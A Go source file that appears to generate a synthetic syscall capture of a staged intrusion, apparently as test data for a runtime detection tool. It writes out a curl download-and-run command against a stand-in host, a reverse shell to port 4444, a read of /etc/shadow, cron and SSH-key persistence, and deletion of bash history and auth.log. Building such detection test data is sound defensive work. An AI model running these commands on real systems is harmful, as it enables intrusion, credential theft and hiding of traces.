package synth

import (
	"errors"
	"io"
	"net/netip"

	"github.com/falcoc/falcoc/driver/scap"
	"github.com/falcoc/falcoc/vm/catalog"
)

// Intrusion writes a small capture of an attack: a web server's worker is made to
// run a shell, which fetches a program to /tmp, runs it and ties a shell to its
// connection; from there account secrets are read, a job and a login key are left
// behind and traces removed; last, a shell is opened in a container. Ordinary
// work goes on before it.
func Intrusion(out io.Writer, opt Options) error {
	s := newScene(opt.Seed)
	w := s.world
	file := scap.NewWriter(out, scap.WriterOptions{Gzip: opt.Gzip})
	if err := file.Snapshot(w.Begin(file.Event)); err != nil {
		return err
	}
	for range 3 {
		s.exchange()
		s.spawn()
		s.walk()
	}

	evil := netip.MustParseAddrPort("203.0.113.66:4444")
	local := netip.MustParseAddr("10.0.0.5")
	const dropped = "/tmp/.cache-update"

	sh := s.proxy.Spawn("/usr/bin/dash", "sh", "-c", "curl -so "+dropped+" http://203.0.113.66/x; chmod +x "+dropped+"; "+dropped)
	curl := sh.Spawn("/usr/bin/curl", "curl", "-so", dropped, "http://203.0.113.66/x")
	web := curl.Connect(netip.AddrPortFrom(local, 40100), netip.AddrPortFrom(evil.Addr(), 80))
	curl.Send(web, []byte("GET /x HTTP/1.1\r\nHost: 203.0.113.66\r\n\r\n"))
	curl.Recv(web, []byte("HTTP/1.1 200 OK\r\n\r\n\x7fELF"))
	f := curl.Open(dropped, catalog.O_WRONLY|catalog.O_CREAT|catalog.O_TRUNC)
	curl.Write(f, []byte("\x7fELF\x02\x01\x01"))
	curl.Close(f)
	curl.Exit(0)
	chmod := sh.Spawn("/usr/bin/chmod", "chmod", "+x", dropped)
	chmod.Chmod(dropped, 0o755)
	chmod.Exit(0)

	bot := sh.Fork()
	bot.ExeWritable = true
	bot.Exec(dropped, dropped)
	back := bot.Connect(netip.AddrPortFrom(local, 40101), evil)
	for fd := range int64(3) {
		bot.Dup(back, fd)
	}
	bot.UID, bot.GID = 0, 0
	w.Emit(bot.TID, catalog.EvtSetuidX, 0, 0)
	bot.ExeWritable = false
	bot.Exec("/usr/bin/bash", "bash", "-i")

	cat := bot.Spawn("/usr/bin/cat", "cat", "/etc/shadow")
	f = cat.Open("/etc/shadow", catalog.O_RDONLY)
	cat.Read(f, []byte("root:$y$j9T$...:19800:0:99999:7:::\n"))
	cat.Write(1, []byte("root:$y$j9T$...:19800:0:99999:7:::\n"))
	cat.Close(f)
	cat.Exit(0)

	for _, name := range []string{"/etc/cron.d/sysupdate", "/root/.ssh/authorized_keys"} {
		f = bot.Open(name, catalog.O_WRONLY|catalog.O_CREAT)
		bot.Write(f, []byte("* * * * * root "+dropped+"\n"))
		bot.Close(f)
	}
	rm := bot.Spawn("/usr/bin/rm", "rm", "-f", "/root/.bash_history", "/var/log/auth.log")
	rm.Unlink("/root/.bash_history")
	rm.Unlink("/var/log/auth.log")
	rm.Exit(0)

	in := s.shells[len(s.shells)-1].Spawn("/usr/bin/bash", "bash", "-i") // in a container, with a terminal
	in.Stat("/proc/1/root", 0)
	in.Exit(0)
	bot.Exit(0)
	sh.Exit(0)
	return errors.Join(w.Err(), file.Close())
}
